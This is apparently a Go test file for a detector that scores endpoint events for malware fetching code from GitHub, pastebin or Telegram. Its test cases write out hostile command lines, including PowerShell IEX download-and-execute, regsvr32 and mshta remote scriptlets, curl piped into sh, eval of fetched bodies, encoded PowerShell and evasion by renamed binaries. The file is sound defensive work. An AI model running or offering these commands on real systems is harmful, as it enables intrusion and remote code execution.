package detect

import (
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// testDetector loads the package's own small app folder, testdata/app:
// the catalog rows and the weights the unit tests need, so that tuning the
// shipped lookups breaks none of them. TestShippedCatalogs checks the
// catalogs the app ships.
func testDetector(t testing.TB) *Detector {
	t.Helper()
	c, err := LoadCatalog(filepath.Join("testdata", "app"), WebServicesFile)
	require.NoError(t, err)
	require.Empty(t, c.Warnings, "the test catalog loads whole")
	return NewDetector(c)
}

// shipped loads the catalog the app ships (../../app/lookups, ../../default):
// the benchmarks measure the catalog users run.
func shipped(t testing.TB, services string) *Detector {
	t.Helper()
	c, err := LoadCatalog(filepath.Join("..", ".."), services)
	require.NoError(t, err)
	return NewDetector(c)
}

func TestDomainSet(t *testing.T) {
	s := NewDomainSet[string]()
	for _, d := range []string{"github.com", "raw.githubusercontent.com", "x.com", "t.me", "*.sharepoint.com."} {
		s.Add(strings.TrimPrefix(d, "*."), d)
	}
	tests := []struct {
		name, host, want string
		reason           string
	}{
		{"exact", "github.com", "github.com", "equal to an entry"},
		{"subdomain", "api.github.com", "github.com", "ends with . + entry"},
		{"most specific", "raw.githubusercontent.com", "raw.githubusercontent.com", "the longest entry wins"},
		{"look-alike suffix", "raw.githubusercontent.com.evil.example", "", "the entry must be at the end"},
		{"substring", "evilgithub.com", "", "never a substring: label boundary"},
		{"x.com in dropbox", "www.dropbox.com", "", "the original's x\\.com matched dropbox.com"},
		{"x.com in netflix", "netflix.com", "", "the original's x\\.com matched netflix.com"},
		{"t.me in meraki", "smart.meraki.com", "", "the original's t\\.me matched smart.meraki.com"},
		{"apex t.me", "t.me", "t.me", "the apex itself"},
		{"wildcard entry", "contoso.sharepoint.com", "*.sharepoint.com.", "*. entries are suffixes like any other"},
		{"empty", "", "", "nothing"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			v, _, ok := s.Match(NormalizeHost(nil, []byte(tt.host)))
			require.Equal(t, tt.want != "", ok, tt.reason)
			require.Equal(t, tt.want, v, tt.reason)
		})
	}
}

func TestNormalizeHost(t *testing.T) {
	for in, want := range map[string]string{
		"GitHub.COM.":               "github.com",
		" api.x.com:443":            "api.x.com",
		"a b.com":                   "",
		"-":                         "-",
		"[::1]":                     "",
		"raw.githubusercontent.com": "raw.githubusercontent.com",
	} {
		require.Equal(t, want, string(NormalizeHost(nil, []byte(in))), in)
	}
}

func TestScanHosts(t *testing.T) {
	tests := []struct {
		name, text string
		want       []string
		reason     string
	}{
		{"url", `certutil -urlcache -f https://raw.githubusercontent.com/a/b.ps1 c.ps1`, []string{"raw.githubusercontent.com"}, "after a scheme"},
		{"quoted", `"C:\x\bitsadmin.exe" /transfer j "https://github.com/x/y/raw/main/z.ps1" "%TEMP%\z.ps1"`, []string{"github.com"}, "inside quotes; %TEMP% and the path are not hosts"},
		{"script text", `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://pastebin.com/raw/abc')"`, []string{"Net.WebClient", "pastebin.com"}, "inside script text; candidates only, the catalog decides"},
		{"after /i:", `regsvr32 /s /n /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`, []string{"raw.githubusercontent.com"}, "after /i:"},
		{"after script:", `rundll32 javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://raw.githubusercontent.com/x.sct")`, []string{"raw.githubusercontent.com"}, "after script:"},
		{"format", `wmic os get /FORMAT:"https://raw.githubusercontent.com/x/y.xsl"`, []string{"raw.githubusercontent.com"}, "after /FORMAT:"},
		{"no scheme", `iwr raw.githubusercontent.com/x/y.ps1 -OutFile y.ps1`, []string{"raw.githubusercontent.com"}, "bare host with a path"},
		{"uri param", `Invoke-WebRequest -Uri github.com`, []string{"github.com"}, "bare host after -Uri"},
		{"windows path", `C:\Tools\github.com\x.exe C:\Windows\System32\x.com`, nil, "directories and files named like hosts"},
		{"host in another url's path", `https://evil.example/raw.githubusercontent.com/x`, []string{"evil.example"}, "a path element is not a host"},
		{"version", `python3.11 -V 1.2.3`, nil, "version numbers have no letters in the last label"},
		{"port", `curl http://api.telegram.org:443/bot1/getUpdates`, []string{"api.telegram.org"}, "host then port"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			var got []string
			ScanHosts([]byte(tt.text), func(r HostRef) bool {
				if strings.Contains(string(r.Host), ".") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".exe") &&
					!strings.HasSuffix(strings.ToLower(string(r.Host)), ".ps1") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".dll") &&
					!strings.HasSuffix(strings.ToLower(string(r.Host)), ".sct") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".xsl") {
					got = append(got, string(r.Host))
				}
				return true
			})
			require.Equal(t, tt.want, got, tt.reason)
		})
	}
}

func TestFindEncoded(t *testing.T) {
	// "IEX (iwr https://github.com/x)" as UTF-16LE base64.
	b64 := "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA"
	tests := []struct {
		name, cmd  string
		powershell bool
		how        string // "" = not encoded
		decoded    string
		reason     string
	}{
		{"full", "powershell -EncodedCommand " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the full parameter"},
		{"e", "powershell -e " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the shortest prefix"},
		{"ec alias", "pwsh -ec " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the documented alias"},
		{"enco", "powershell -ENCO " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "any prefix, any case"},
		{"slash", "powershell /enc " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "a slash"},
		{"en dash", "powershell \u2013enc " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "en dash"},
		{"em dash", "powershell \u2014e " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "em dash"},
		{"bar", "powershell \u2015en " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "horizontal bar"},
		{"tab", "powershell -enc\t" + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "any white space"},
		{"caret", "cmd /c powershell -e^n^c " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "cmd.exe's ^ escapes"},
		{"ea", "powershell -ea SilentlyContinue -c x", true, "", "", "-ea is -ErrorAction"},
		{"ep", "powershell -ep bypass -c x", true, "", "", "-ep is -ExecutionPolicy"},
		{"exec", "powershell -Exec Bypass -File a.ps1", true, "", "", "-Exec is -ExecutionPolicy"},
		{"executionpolicy", "powershell -ExecutionPolicy Bypass", true, "", "", "not a prefix of encodedcommand"},
		{"enc last", "powershell -enc", true, "", "", "no value after it"},
		{"other process", "node -e " + b64, false, "base64 argument", "IEX (iwr https://github.com/x)", "-e means something else for node; the base64 itself still counts"},
		{"node script", "node -e console.log(1)", false, "", "", "-e is not EncodedCommand outside PowerShell"},
		{"frombase64", "powershell -c [Convert]::FromBase64String($s)", true, "FromBase64String", "", "FromBase64String"},
		{"base64 not utf16", "certutil -decode QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn out", false, "", "", "base64 of ASCII text is not a PowerShell script"},
		{"short base64", "x -enc SQBFAFgA", false, "", "", "not PowerShell and shorter than 40"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			enc, ok := FindEncoded([]byte(tt.cmd), tt.powershell)
			require.Equal(t, tt.how != "", ok, tt.reason)
			require.Equal(t, tt.how, enc.How, tt.reason)
			require.Equal(t, tt.decoded, string(enc.Decoded), tt.reason)
		})
	}
}

func TestDetector(t *testing.T) {
	d := testDetector(t)
	tests := []struct {
		name   string
		reason string
		ev     Event
		check  func(t *testing.T, r *Result)
	}{
		{
			name: "dns query names the service", reason: "EventID 22 QueryName is where the service shows",
			ev: Event{EventCode: b("22"), Image: b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "github", r.Category)
				require.Equal(t, "QueryName", r.SeenIn)
				require.Equal(t, "raw.githubusercontent.com", string(r.Host))
				require.True(t, r.Suspicious)
				require.True(t, r.RawContent)
				require.True(t, r.Pass)
			},
		},
		{
			name: "reverse dns is not evidence", reason: "a 1e100.net name says Google, not which service",
			ev:    Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("lhr25s34-in-f14.1e100.net")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category); require.False(t, r.Pass) },
		},
		{
			name: "gcp reverse dns", reason: "bc.googleusercontent.com is a customer VM even though LOTS lists googleusercontent.com",
			ev:    Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("34.1.2.3.bc.googleusercontent.com")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
		},
		{
			name: "connection with a service name", reason: "EventID 3 DestinationHostname when it is a real name",
			ev: Event{EventCode: b("3"), Image: b(`C:\x\curl.exe`), DestinationHostname: b("API.Telegram.org.")},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "telegram", r.Category)
				require.Equal(t, "DestinationHostname", r.SeenIn)
				require.Equal(t, "api.telegram.org.", string(r.DestHost), "dest_host stays lower(DestinationHostname)")
				require.False(t, r.Pass, "one connection of a downloader is 30: the class is a weight, not a gate")
			},
		},
		{
			name: "dropbox is not twitter", reason: "the original's x\\.com trap",
			ev:    Event{EventCode: b("3"), Image: b(`C:\x\curl.exe`), DestinationHostname: b("www.dropbox.com")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
		},
		{
			name: "look-alike", reason: "raw.githubusercontent.com.evil.example is not GitHub",
			ev:    Event{EventCode: b("22"), Image: b(`C:\x\powershell.exe`), QueryName: b("raw.githubusercontent.com.evil.example")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
		},
		{
			name: "dcmd is not cmd", reason: "processes by exact basename",
			ev:    Event{EventCode: b("22"), Image: b(`C:\tools\dcmd.exe`), QueryName: b("pastebin.com")},
			check: func(t *testing.T, r *Result) { require.False(t, r.Suspicious); require.False(t, r.Pass) },
		},
		{
			name: "linux path", reason: "either path separator",
			ev: Event{EventCode: b("1"), Image: b("/usr/bin/curl.exe"), CommandLine: b("curl https://pastebin.com/raw/x")},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "curl.exe", string(r.Process))
				require.True(t, r.Suspicious)
				require.True(t, r.Pass)
			},
		},
		{
			name: "renamed binary", reason: "OriginalFileName says what the file is",
			ev: Event{EventCode: b("1"), Image: b(`C:\Users\Public\svc.exe`), OriginalFileName: b("REGSVR32.EXE"),
				CommandLine: b(`svc.exe /s /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`)},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Suspicious)
				require.Equal(t, "regsvr32.exe", r.PEName)
				require.Equal(t, "lolbin", r.ProcessClass)
				require.Contains(t, strs(r.Reasons), "renamed binary: svc.exe is regsvr32.exe by its PE metadata")
				require.True(t, r.Pass)
			},
		},
		{
			name: "renamed by description", reason: "Description when OriginalFileName is missing",
			ev:    Event{EventCode: b("22"), Image: b(`C:\x\notepad2.exe`), Description: b("Windows PowerShell"), QueryName: b("pastebin.com")},
			check: func(t *testing.T, r *Result) { require.Equal(t, "powershell.exe", r.PEName); require.True(t, r.Pass) },
		},
		{
			name: "unknown process fetching raw content", reason: "still scores when the URL is raw content",
			ev: Event{EventCode: b("1"), Image: b(`C:\Users\x\AppData\Local\Temp\updater.exe`), CommandLine: b(`updater.exe --from https://raw.githubusercontent.com/x/y/z.bin`)},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.Suspicious)
				require.True(t, r.RawContent)
				require.True(t, r.Pass)
				require.Positive(t, r.RiskScore)
				require.Equal(t, "https://raw.githubusercontent.com/x/y/z.bin", string(r.URL))
			},
		},
		{
			name: "unknown process asking dns for a raw host", reason: "svchost.exe (BITS) or <unknown process> querying raw.githubusercontent.com: the host, not the process's own fetch",
			ev: Event{EventCode: b("22"), Image: b(`C:\windows\System32\svchost.exe`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "github", r.Category)
				require.True(t, r.RawContent)
				require.False(t, r.Pass)
			},
		},
		{
			name: "unknown process on github web pages", reason: "github.com pages that are not raw content do not pass for an unknown process",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\app.exe`), CommandLine: b(`app.exe https://github.com/org/repo/issues`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "github", r.Category); require.False(t, r.Pass) },
		},
		{
			name: "encoded command with the service inside", reason: "decode -EncodedCommand and look for the service in the script",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), ParentImage: b(`C:\Windows\System32\svchost.exe`),
				CommandLine: b("powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA")},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Encoded)
				require.Equal(t, "github", r.Category)
				require.Equal(t, "EncodedCommand", r.SeenIn)
				require.True(t, r.ServiceSpawn)
				require.Equal(t, 3, r.SuspicionScore)
				require.Contains(t, string(r.Decoded), "https://github.com/x")
			},
		},
		{
			name: "office parent", reason: "by exact basename",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), ParentImage: b(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`), CommandLine: b("cmd /c curl https://t.me/x")},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.OfficeParent)
				require.Equal(t, "telegram", r.Category)
			},
		},
		{
			name: "not an office parent", reason: "a substring of a parent name is not the parent",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), ParentImage: b(`C:\x\notwinword.exe`)},
			check: func(t *testing.T, r *Result) { require.False(t, r.OfficeParent) },
		},
		{
			name: "allowlisted git", reason: "git-remote-https to github.com is the allowlist's first kind of false positive",
			ev: Event{EventCode: b("3"), Image: b(`C:\Program Files\Git\mingw64\bin\git-remote-https.exe`), DestinationHostname: b("github.com")},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Allowlisted)
				require.Zero(t, r.RiskScore)
				require.False(t, r.Pass)
			},
		},
		{
			name: "allowlisted defender", reason: "the benign process of the labelled corpus",
			ev:    Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\platform\4.18\MsMpEng.exe`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) },
		},
		{
			name: "github raw path", reason: "/raw/ comes after /owner/repo/ on github.com",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/raw/main/p.ps1")},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.RawContent)
				require.False(t, r.Pass, "an unknown program's one raw fetch is 35: polling, the fleet or more evidence decides")
			},
		},
		{
			name: "release asset", reason: "a release download is an artifact, not raw content: it lowers the risk and does not pass for an unknown process",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.RawContent)
				require.False(t, r.Pass)
				require.Equal(t, "artifact_download", r.ContextKind)
			},
		},
		{
			name: "raw content on a later host", reason: "an innocent first URL does not hide a raw fetch after it",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`),
				CommandLine: b("updater.exe --home https://github.com/acme/tool --get https://raw.githubusercontent.com/evil/x/main/p.ps1")},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "github", r.Category)
				require.True(t, r.RawContent)
				require.Equal(t, 30, r.RiskScore, "github.com first: service and command line 15 (no C&C tag), raw content 15")
			},
		},
		{
			name: "renamed binary is never allowlisted", reason: "a copy of PowerShell named MsMpEng.exe does not get Defender's rule",
			ev: Event{EventCode: b("1"), Image: b(`C:\Users\Public\MsMpEng.exe`), OriginalFileName: b("PowerShell.EXE"),
				CommandLine: b("MsMpEng.exe iwr https://raw.githubusercontent.com/x/y/z.ps1")},
			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted); require.True(t, r.Pass) },
		},
		{
			name: "allowlist needs every host", reason: "git.exe talking to github.com and fetching a pastebin raw URL is not git's ordinary work",
			ev: Event{EventCode: b("1"), Image: b(`C:\Program Files\Git\cmd\git.exe`),
				CommandLine: b("git.exe clone https://github.com/a/b https://pastebin.com/raw/x")},
			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted) },
		},
		{
			name: "robocopy /e", reason: "a path containing PowerShell does not make robocopy's /e an encoded command",
			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\Robocopy.exe`), CommandLine: b(`robocopy C:\Windows\System32\WindowsPowerShell\Modules D:\bak /e /copyall`)},
			check: func(t *testing.T, r *Result) { require.False(t, r.Encoded) },
		},
		{
			name: "xcopy /e before a powershell folder", reason: "only arguments after the PowerShell invocation are its parameters",
			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\cmd.exe`), CommandLine: b(`cmd.exe /c xcopy /e C:\scripts\powershell D:\backup`)},
			check: func(t *testing.T, r *Result) { require.False(t, r.Encoded) },
		},
		{
			name: "cmd running powershell -e", reason: "cmd /c powershell -e <base64>: the value decodes",
			ev: Event{EventCode: b("1"), Image: b(`C:\Windows\System32\cmd.exe`),
				CommandLine: b("cmd.exe /c powershell.exe -e SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA")},
			check: func(t *testing.T, r *Result) { require.True(t, r.Encoded); require.Equal(t, "github", r.Category) },
		},
		{
			name: "backslash url", reason: "https:\\pastebin.com\\raw\\x is read as a URL by .NET and browsers",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https:\\pastebin.com\raw\x`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category); require.True(t, r.RawContent) },
		},
		{
			name: "fully qualified url", reason: "pastebin.com./raw/x",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https://pastebin.com./raw/x`)},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.RawContent)
				require.Equal(t, "https://pastebin.com./raw/x", string(r.URL))
			},
		},
		{
			name: "shared infrastructure in dns", reason: "not-evidence domains name nothing in any field",
			ev:    Event{EventCode: b("22"), Image: b(`C:\x\powershell.exe`), QueryName: b("d1a2b3c4.cloudfront.net")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
		},
		{
			name: "empty event", reason: "nothing to say",
			ev: Event{},
			check: func(t *testing.T, r *Result) {
				require.Zero(t, r.RiskScore)
				require.Empty(t, r.Reasons)
				require.False(t, r.Pass)
			},
		},
		{
			name: "cim event without EventCode", reason: "every field is looked at",
			ev:    Event{Image: b(`C:\x\mshta.exe`), CommandLine: b(`mshta https://pastebin.com/raw/x`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category); require.True(t, r.Pass) },
		},
		{
			name: "command line on a network event", reason: "a connection enriched with its process's fields (join ProcessGuid, a data model) is read whole, as the original SPL read it",
			ev: Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("github.com"),
				CommandLine: b("powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA")},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Encoded, "the original says is_encoded=1 here")
				require.Equal(t, "DestinationHostname", r.SeenIn)
				require.Equal(t, "Invoke-Expression of fetched content", r.DownloadExecute)
			},
		},
		{
			name: "command line on a dns event", reason: "the same for EventID 22",
			ev: Event{EventCode: b("22"), Image: b(`C:\x\curl.exe`), QueryName: b("api.telegram.org"), CommandLine: b(`curl -s https://api.telegram.org/bot1:AA/getUpdates -o %TEMP%\u.json`)},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.CommandEndpoint)
				require.Equal(t, "%temp%", r.TempPlace)
			},
		},
		{
			name: "iex of a paste", reason: "download and execute, a command endpoint and a hidden window: the Atomic pastebin test",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`),
				CommandLine: b(`powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')"`)},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "Invoke-Expression of fetched content", r.DownloadExecute)
				require.True(t, r.CommandEndpoint)
				require.True(t, r.HiddenWindow)
				require.Contains(t, strs(r.Reasons), "runs what it fetches: Invoke-Expression of fetched content")
				require.Contains(t, strs(r.Reasons), "command endpoint on pastebin.com")
				require.Equal(t, 100, r.RiskScore)
			},
		},
		{
			name: "python exec of a fetched body", reason: "exec( with urlopen in a one-liner",
			ev: Event{EventCode: b("1"), Image: b(`C:\Python311\python.exe`),
				CommandLine: b(`python -c "import urllib.request as u;exec(u.urlopen('https://gist.githubusercontent.com/a/b/raw/c').read())"`)},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "eval of a fetched body", r.DownloadExecute)
				require.True(t, r.CommandEndpoint, "gist raw files hand out commands")
			},
		},
		{
			name: "mshta on a url", reason: "mshta given a URL runs what it fetches",
			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\mshta.exe`), CommandLine: b(`mshta.exe https://pastebin.com/raw/x`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "mshta on a URL", r.DownloadExecute) },
		},
		{
			name: "regsvr32 scriptlet", reason: "/i: with a URL runs a remote scriptlet",
			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\regsvr32.exe`), CommandLine: b(`regsvr32 /s /n /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "script run from a URL", r.DownloadExecute) },
		},
		{
			name: "curl piped into sh", reason: "a download piped into an interpreter",
			ev: Event{EventCode: b("1"), Image: b(`/usr/bin/bash`), CommandLine: b(`bash -c "curl -fsSL https://raw.githubusercontent.com/x/y/main/i.sh | sh"`)},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "download piped into an interpreter", r.DownloadExecute)
			},
		},
		{
			name: "iex of a local file", reason: "Invoke-Expression of nothing fetched is not download-and-execute",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -c "Get-Content C:\s\github.com.ps1 | iex"`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
		},
		{
			name: "index is not iex", reason: "words, not substrings",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -c "$index = iwr https://github.com/a/b"`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
		},
		{
			name: "window style abbreviations", reason: "-win 1 is -WindowStyle Hidden",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), CommandLine: b(`cmd /c powershell -win 1 -c iwr https://github.com/a/b`)},
			check: func(t *testing.T, r *Result) { require.True(t, r.HiddenWindow) },
		},
		{
			name: "caret-escaped powershell", reason: "cmd's ^ escapes shorten the command line; the PowerShell part is found again in the cleaned text",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), CommandLine: b(`cmd /c ^p^o^w^e^r^s^h^e^l^l -w^i^n^d^o^w^s^t^y^l^e h^i^d^d^e^n -c iwr https://github.com/a/b`)},
			check: func(t *testing.T, r *Result) { require.True(t, r.HiddenWindow) },
		},
		{
			name: "curl write-out is not a window", reason: "-w belongs to curl here, not PowerShell",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -w 1 https://github.com/a/b`)},
			check: func(t *testing.T, r *Result) { require.False(t, r.HiddenWindow) },
		},
		{
			name: "normal window", reason: "-WindowStyle Normal is not hidden",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -WindowStyle Normal -c iwr https://github.com/a/b`)},
			check: func(t *testing.T, r *Result) { require.False(t, r.HiddenWindow) },
		},
		{
			name: "no service, no retrieval signals", reason: "the signals say what a process does with a web service's content; without a service they are not looked for",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -w hidden -c "iex (iwr https://intranet.example/s.ps1)"`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute); require.False(t, r.HiddenWindow) },
		},
		{
			name: "defender name outside defender's folder", reason: "a file named MsMpEng.exe in C:\\Users\\Public fetching a paste is not Defender (issue 12's evasion)",
			ev: Event{EventCode: b("1"), Image: b(`C:\Users\Public\MsMpEng.exe`),
				CommandLine: b(`MsMpEng.exe -c "iex(iwr https://pastebin.com/raw/abc)"`)},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.Allowlisted)
				require.True(t, r.Pass, "it fetches raw content itself")
				require.Equal(t, "t1102_allowlist.csv:5", r.UnexpectedPath)
				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:5)")
				require.GreaterOrEqual(t, r.RiskScore, 40)
			},
		},
		{
			name: "defender reaching a paste", reason: "Defender's rule names the domains it is seen to resolve; a paste is not one of them",
			ev:    Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2009.7-0\MsMpEng.exe`), QueryName: b("pastebin.com")},
			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted); require.Empty(t, r.UnexpectedPath) },
		},
		{
			name: "npm resolving a github dependency", reason: "package-manager context lowers the risk and keeps the row",
			ev: Event{EventCode: b("22"), Image: b(`C:\Program Files\nodejs\node.exe`), QueryName: b("codeload.github.com"),
				CommandLine: b(`"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install`)},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "package_manager", r.ContextKind)
				require.Equal(t, "github", r.Category)
				require.False(t, r.Pass, "context lowers it under the threshold; all=true keeps the row")
				require.Zero(t, r.RiskScore)
			},
		},
		{
			name: "puppet's ruby", reason: "an IT agent by its install path and the service account it runs as",
			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) { require.Equal(t, "it_agent", r.ContextKind) },
		},
		{
			name: "puppet's ruby as a user", reason: "the agent runs as SYSTEM; a user running Puppet's ruby gets no context",
			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`CORP\bob`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
		},
		{
			name: "ruby elsewhere", reason: "the same ruby.exe outside Puppet's folder gets no context",
			ev:    Event{EventCode: b("22"), Image: b(`C:\Users\Public\Puppet Labs\ruby.exe`), QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
		},
		{
			name: "renamed binary gets no context", reason: "a renamed binary never benefits",
			ev: Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), OriginalFileName: b("PowerShell.EXE"),
				QueryName: b("raw.githubusercontent.com")},
			check: func(t *testing.T, r *Result) {
				require.Empty(t, r.ContextKind)
				require.Equal(t, "powershell.exe", r.PEName)
			},
		},
		{
			name: "artifact url with a paste", reason: "every URL must be an artifact for the artifact context",
			ev: Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`),
				CommandLine: b(`curl -LO https://github.com/a/b/releases/download/v1/t.zip https://pastebin.com/raw/x`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
		},
		{
			name: "context never lowers running fetched code", reason: "Puppet's ruby evaluating a raw GitHub file is what the detection is for (review finding)",
			ev: Event{EventCode: b("1"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`),
				CommandLine: b(`ruby.exe -e "require 'net/http';eval(Net::HTTP.get(URI('https://raw.githubusercontent.com/evil/x/main/a.rb')))"`)},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "eval of a fetched body", r.DownloadExecute)
				require.Empty(t, r.ContextKind)
				require.GreaterOrEqual(t, r.RiskScore, 40)
			},
		},
		{
			name: "context never lowers a command endpoint", reason: "the same agent asking a Telegram bot for updates",
			ev: Event{EventCode: b("1"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`),
				CommandLine: b(`ruby.exe -e "puts Net::HTTP.get(URI('https://api.telegram.org/bot1:A/getUpdates'))"`)},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.CommandEndpoint)
				require.Empty(t, r.ContextKind)
				require.GreaterOrEqual(t, r.RiskScore, 40)
			},
		},
		{
			name: "allowlist never hides running fetched code", reason: "VS Code run as Node evaluating a raw file is not VS Code's ordinary work",
